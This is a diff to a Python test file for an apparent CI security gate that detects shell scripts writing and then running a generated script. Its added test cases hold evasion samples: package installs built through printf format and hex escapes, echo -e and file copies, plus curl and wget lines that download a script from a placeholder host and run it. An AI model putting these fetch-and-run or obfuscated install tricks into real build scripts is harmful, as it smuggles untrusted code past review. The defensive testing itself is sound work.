@@ -40,6 +40,11 @@ WRITTEN = {
     "executed": f"echo '{INSTALL}' > gen.sh\nchmod +x gen.sh\n./gen.sh\n",
     "one-line": f"echo '{INSTALL}' > gen.sh; bash gen.sh\n",
     "makefile": f"printf 'b:\\n\\t{INSTALL}\\n' > gen.mk\nmake -f gen.mk b\n",
+    # printf's conversions and escapes, echo -e's escapes build the text the shell runs
+    "printf-format": "printf 'p%sp install %s\\n' i evilpkg==1.5 > gen.sh\nbash gen.sh\n",
+    "printf-escape": "printf '\\x70ip install evilpkg==1.5' > gen.sh\nbash gen.sh\n",
+    "echo-e": f"echo -e 'true\\n{INSTALL}' > gen.sh\nbash gen.sh\n",
+    "copied": f"echo '{INSTALL}' > a.txt\ncp a.txt gen.sh\nbash gen.sh\n",
 }
 
 
@@ -53,6 +58,20 @@ def test_attack_written_script_hides_behind_project_decoy(tmp_path: Path, db: Pa
     # a harmless gen.sh committed beside the script is overwritten before it runs
     files = {"ci.sh": "#!/bin/sh\n" + WRITTEN["echo-bash"], "gen.sh": "echo ok\n"}
     _, controls = _gate(tmp_path, db, files)
+    assert controls[VULN] is ControlStatus.FAIL
+
+
+def test_attack_copied_project_file_runs(tmp_path: Path, db: Path) -> None:
+    # a project file that is no script by name, copied to a name the script then runs
+    files = {"ci.sh": "#!/bin/sh\ncp tools/notes.txt gen.sh\nbash gen.sh\n"}
+    files["tools/notes.txt"] = INSTALL + "\n"
+    _, controls = _gate(tmp_path, db, files)
+    assert controls[VULN] is ControlStatus.FAIL
+
+
+def test_attack_written_script_in_one_recipe_line(tmp_path: Path, db: Path) -> None:
+    text = _recipe(f"echo '{INSTALL}' > gen.sh; sh gen.sh")
+    _, controls = _gate(tmp_path, db, {"Makefile": text})
     assert controls[VULN] is ControlStatus.FAIL
 
 
@@ -90,6 +109,9 @@ COMPUTED = {
     "substitution": 'echo "$(base64 -d < payload.txt)" > gen.sh\nsh gen.sh\n',
     "decoded": "base64 -d payload.txt > gen.sh\n. ./gen.sh\n",
     "unknown-append": "base64 -d payload.txt >> gen.sh\nbash gen.sh\n",
+    "curl-output": "curl -fsSLo gen.sh https://x.example/i.sh\nsh gen.sh\n",
+    "wget-output": "wget -qO gen.sh https://x.example/i.sh\n. ./gen.sh\n",
+    "copied-computed": 'cp "$SRC" gen.sh\nbash gen.sh\n',
 }
 
 
